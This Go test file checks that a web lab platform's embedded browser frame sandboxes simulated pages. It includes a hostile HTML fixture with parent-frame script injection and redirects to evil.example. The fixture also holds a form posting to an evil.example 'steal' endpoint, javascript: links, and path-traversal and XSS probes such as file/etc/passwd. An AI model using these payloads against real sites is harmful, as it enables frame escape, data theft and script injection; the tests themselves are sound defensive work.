package web_test

import (
	"io"
	"net/http"
	"strings"
	"testing"
)

// hostile is a page that tries to get out of its frame.
const hostile = `<base href="https://evil.example/"><meta http-equiv=refresh content="0; url=https://evil.example/x">
<script>parent.document.body.innerHTML = "mine"; fetch("/labs")</script><img src=x onerror="parent.location = '//evil.example'">
<iframe src="//evil.example/frame"></iframe><iframe srcdoc="<script>top.location='/'</script>"></iframe>
<form action="https://evil.example/steal" method=POST><input name=a></form><form action="//evil.example/get"></form>
<a href="javascript:alert(1)" target=_top>x</a><a href="/labs" target=_top>y</a><link rel=stylesheet href="https://evil.example/s.css">`

// TestNothingLeavesTheFrame: whatever a simulated page holds, it is answered
// with a policy that gives it no script, no origin and nothing to load, and no
// address in it leads to a real server.
func TestNothingLeavesTheFrame(t *testing.T) {
	s := newSite(t, nil)
	lab := s.newLab()
	s.line(lab, "docker run -d --name web -p 8080:80 nginx")
	s.line(lab, "cat > index.html <<'PAGE'\n"+hostile+"\nPAGE")
	s.line(lab, "docker cp index.html web:/usr/share/nginx/html/index.html")
	resp := s.ask(http.MethodGet, "/labs/"+lab+"/browse/http/localhost:8080/", "")
	body, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != http.StatusOK || !strings.Contains(string(body), "mine") {
		t.Fatalf("%d %v %s", resp.StatusCode, err, body)
	}
	policy := resp.Header.Get("Content-Security-Policy")
	for _, part := range []string{"sandbox allow-forms;", "default-src 'none'", "form-action 'self'", "frame-ancestors 'self'"} {
		if !strings.Contains(policy, part) {
			t.Errorf("the policy %q lacks %q", policy, part)
		}
	}
	for _, right := range []string{"allow-scripts", "allow-same-origin", "allow-top-navigation", "allow-popups", "script-src", "connect-src"} {
		if strings.Contains(policy, right) {
			t.Errorf("the policy %q has %q", policy, right)
		}
	}
	if resp.Header.Get("X-Content-Type-Options") != "nosniff" || len(resp.Cookies()) > 0 {
		t.Errorf("%v", resp.Header)
	}
	for _, way := range []string{`href="https://`, `href="//`, `src="//`, `src="https://`, `action="//`, `action="https://`, "url=https://"} {
		if strings.Contains(string(body), way) {
			t.Errorf("a way out: %s in\n%s", way, body)
		}
	}
}

func TestWhatAFrameSays(t *testing.T) {
	s := newSite(t, nil)
	lab := s.newLab()
	for _, line := range []string{
		"docker run -d --name web -p 8080:80 nginx",
		"printf 'server { listen 80; location /loop { return 302 http://localhost:8080/loop; } location /far { return 301 http://nowhere.invalid/; } location / { root /usr/share/nginx/html; } }' > default.conf",
		"docker cp default.conf web:/etc/nginx/conf.d/default.conf",
		"docker exec web nginx -s reload",
		"docker exec web sh -c 'head -c 9000000 /dev/zero > /usr/share/nginx/html/huge.html'",
	} {
		s.line(lab, line)
	}
	for _, row := range []struct{ address, says string }{
		{"http/localhost:8080/loop", "redirected you too many times"},
		{"http/localhost:8080/far", "cannot be found"},
		{"http/localhost:9/", "refused to connect"},
		{"post/localhost:8080/", "curl -d in the terminal"},
		{"file/etc/passwd", ""},
		{"http/localhost:8080/%3Cscript%3Ealert(1)%3C/script%3E", "404"},
	} {
		resp := s.ask(http.MethodGet, "/labs/"+lab+"/browse/"+row.address, "")
		body, err := io.ReadAll(resp.Body)
		if err != nil || !strings.Contains(string(body), row.says) || strings.Contains(string(body), "root:x:0") || strings.Contains(string(body), "<script>alert") {
			t.Errorf("%s: %d %v %.300s", row.address, resp.StatusCode, err, body)
		}
		if !strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") {
			t.Errorf("%s is answered without a policy: %d", row.address, resp.StatusCode)
		}
	}
	resp := s.ask(http.MethodGet, "/labs/"+lab+"/browse/http/localhost:8080/huge.html", "")
	body, err := io.ReadAll(resp.Body)
	if err != nil || len(body) > 4<<20 {
		t.Errorf("a huge page is answered with %d bytes, %v", len(body), err)
	}
}
